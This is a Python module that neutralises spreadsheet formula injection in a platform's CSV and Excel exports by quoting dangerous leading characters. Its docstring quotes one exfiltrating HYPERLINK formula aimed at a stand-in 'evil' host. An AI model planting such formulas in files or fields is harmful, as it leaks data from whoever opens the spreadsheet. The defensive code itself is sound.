"""Every CSV (and spreadsheet) the platform writes goes through here.

A spreadsheet program runs a text cell that starts with =, +, -, @, a tab or a carriage return as a
formula, so a title such as `=HYPERLINK("http://evil/?"&A1)` typed by anyone would run on the
computer of the official who opens an export. Such text cells are written with a leading single
quote. Numbers the platform writes as numbers (int, float, Decimal) are written as they are: a
measured -5 is a number, not a formula, and stays one for whoever sums the column. Text is text even
when it looks like a number ("-5" typed in a title is quoted). Anything else (a model, a lazy
translation) is written as its text, so it is checked as text.

The quoting can be undone exactly (`unquote`), so files exported in an import format import again
unchanged: text that already starts with quotes before a trigger gets one more.
"""

import csv
from collections.abc import Iterable
from numbers import Number
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # spreadsheet programs read the file as UTF-8 only with it


def neutralise(value: Any) -> Any:
    """The cell as written: text a spreadsheet would run as a formula gets a leading quote."""
    if value is None or isinstance(value, Number):  # Decimal and numpy's numbers are Numbers too
        return value
    text = str(value)  # what the csv module would write
    if text.lstrip("'").startswith(TRIGGERS):
        return "'" + text
    return value


def unquote(cell: str) -> str:
    """What `neutralise` was given, for a cell read back from a file the platform wrote."""
    if cell.startswith("'") and cell.lstrip("'").startswith(TRIGGERS):
        return cell[1:]
    return cell


class Writer:
    """csv.writer with every cell neutralised."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _Line:
    """The writer writes into this and gets the line back, for a streamed response."""

    def write(self, line: str) -> str:
        return line


def _disposition(response, filename: str):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(rows: Iterable[Iterable[Any]], filename: str) -> HttpResponse:
    """A small CSV download built in memory."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response.write(BOM)
    Writer(response).writerows(rows)
    return _disposition(response, filename)


def streamed_csv_response(rows: Iterable[Iterable[Any]], filename: str) -> StreamingHttpResponse:
    """A CSV download written row by row as it is sent, for exports of any size."""
    writer = Writer(_Line())
    lines = (writer.writerow(row) for row in rows)

    def body():
        yield BOM
        yield from lines

    return _disposition(StreamingHttpResponse(body(), content_type="text/csv; charset=utf-8"), filename)


def append_row(sheet, row: Iterable[Any]) -> None:
    """sheet.append for openpyxl, which would store text starting with = as a formula: text stays text.
    Only such a value becomes a cell of its own; the row is never looked up again after the append
    (reading `max_row` scans every cell: a sheet of 30,000 rows took minutes). For ordinary and
    write-only (streamed) workbooks alike: a write-only sheet takes only a cell that has a place."""
    from openpyxl.cell import WriteOnlyCell

    values = []
    for value in row:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            value = cell
        values.append(value)
    sheet.append(values)
